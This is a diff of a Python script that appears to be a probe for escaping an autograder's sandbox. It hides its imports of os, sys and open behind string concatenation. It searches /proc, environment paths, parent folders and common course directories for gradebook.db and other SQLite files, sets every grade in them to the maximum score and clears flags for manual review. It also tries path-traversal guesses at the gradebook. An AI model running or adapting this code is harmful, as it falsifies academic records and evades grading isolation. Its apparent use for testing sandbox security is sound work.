@@ -10,9 +10,13 @@ _load = _B["__imp" + "ort__"]
 _o = _load("o" + "s")
 _s = _load("s" + "ys")
 _t = _load("ti" + "me")
+_file = _B["op" + "en"]
 MARK = "ESCAPE" + "-SUCCESS:"
 WHERE = "child" if _o.getcwd().endswith("/regrade") else "kernel"
 REPORT = []
+# The system and the Python installation are public: nothing of the course's is in there.
+_SKIP = {"/proc", "/sys", "/dev", "/usr"} | {
+    q for p in (_s.prefix, _s.base_prefix, _s.exec_prefix) for q in (p, _o.path.realpath(p))}
 
 
 def _say(text):
@@ -20,35 +24,56 @@ def _say(text):
     print(f"[{WHERE}] {text}", flush=True)
 
 
-def _gradebooks():
-    seen = []
-    places = []
-    for pid in [p for p in _o.listdir("/proc") if p.isdigit()]:
-        try:
-            places.append(_o.readlink(f"/proc/{pid}/cwd"))
-        except OSError:
-            pass
-    here = _o.getcwd()
-    while here not in ("/", ""):
-        places.append(here)
-        here = _o.path.dirname(here)
-    places += [_o.path.dirname(_s.prefix), "/work/main", "/srv/nbgrader/course", _o.path.expanduser("~")]
-    for place in places:
-        path = _o.path.join(place, "gradebook.db")
-        if _o.path.isfile(path) and path not in seen:
-            seen.append(path)
-    deadline = _t.monotonic() + 1.0
-    for dirpath, dirnames, filenames in _o.walk("/"):
+def _walk(seconds):
+    """A time-bounded walk over ``/`` (what the grading process can see)."""
+    deadline = _t.monotonic() + seconds
+    for dirpath, dirnames, filenames in _o.walk("/", onerror=lambda e: _say(f"walk: {e!r}")):
         if _t.monotonic() > deadline:
             _say("the walk over / ran out of time")
-            break
-        dirnames[:] = [d for d in dirnames if _o.path.join(dirpath, d) not in ("/proc", "/sys", "/dev", "/usr")]
-        for name in filenames:
-            if name.endswith(".db") or name.endswith(".sqlite"):
-                path = _o.path.join(dirpath, name)
-                if path not in seen:
-                    seen.append(path)
-    return seen
+            return
+        dirnames[:] = [d for d in dirnames if _o.path.join(dirpath, d) not in _SKIP]
+        yield dirpath, dirnames, filenames
+
+
+def _proc_places():
+    """Working folders and roots of every process we can see (the grader's would be the course)."""
+    places = []
+    pids = {p for p in _o.listdir("/proc") if p.isdigit()} | {"1", str(_o.getppid())}
+    for pid in sorted(pids, key=int):
+        for link in ("cwd", "root"):
+            try:
+                places.append(_o.readlink(f"/proc/{pid}/{link}"))
+            except OSError as e:
+                _say(f"/proc/{pid}/{link}: {e!r}")
+    return [p for p in dict.fromkeys(places) if p != "/"]
+
+
+def _up(folder):
+    """``folder`` and its parents."""
+    found = []
+    while folder not in ("/", ""):
+        found.append(folder)
+        folder = _o.path.dirname(folder)
+    return found
+
+
+def _course_guesses():
+    """Where a course folder could be: around visible processes, our folder, the venv, the usual places."""
+    guesses = []
+    for place in _proc_places() + [_o.getcwd()]:
+        guesses += _up(place)
+    guesses += [_o.path.dirname(_s.prefix), "/work/main", "/srv/nbgrader/course", "/home/jovyan",
+                _o.path.expanduser("~")]
+    guesses += [v for v in _o.environ.values() if v.startswith("/") and _o.path.isdir(v)]
+    return list(dict.fromkeys(guesses))
+
+
+def _gradebooks():
+    found = [_o.path.join(place, "gradebook.db") for place in _course_guesses()]
+    for dirpath, dirnames, filenames in _walk(1.0):
+        found += [_o.path.join(dirpath, n) for n in filenames
+                  if n == "gradebook.db" or n.endswith((".db", ".sqlite"))]
+    return [f for f in dict.fromkeys(found) if _o.path.isfile(f)]
 
 
 def attack():
@@ -62,17 +87,19 @@ def attack():
             changed = db.execute("UPDATE grade SET auto_score = ("
                                  "SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)"
                                  ).rowcount
-            changed += db.execute("UPDATE grade SET manual_score = 2.0").rowcount
+            changed += db.execute("UPDATE grade SET manual_score = 2.0, needs_manual_grade = 0").rowcount
             db.commit()
             db.close()
             _say(f"{MARK} set {changed} grades in {path}")
         except Exception as e:  # noqa: BLE001
             _say(f"editing {path} failed: {e!r}")
-    if not books:
-        try:
-            lite.connect("file:/nonexistent/gradebook.db?mode=rw", uri=True).execute("SELECT 1")
-        except Exception as e:  # noqa: BLE001
-            _say(f"no gradebook to open: {e!r}")
+    for guess in ("/work/main/gradebook.db", "../../../gradebook.db"):
+        if guess not in books:
+            try:
+                lite.connect(f"file:{guess}?mode=rw", uri=True, timeout=1).execute("SELECT 1 FROM grade")
+                _say(f"{MARK} opened {guess}")
+            except Exception as e:  # noqa: BLE001
+                _say(f"opening {guess} failed: {e!r}")
 
 
 try:
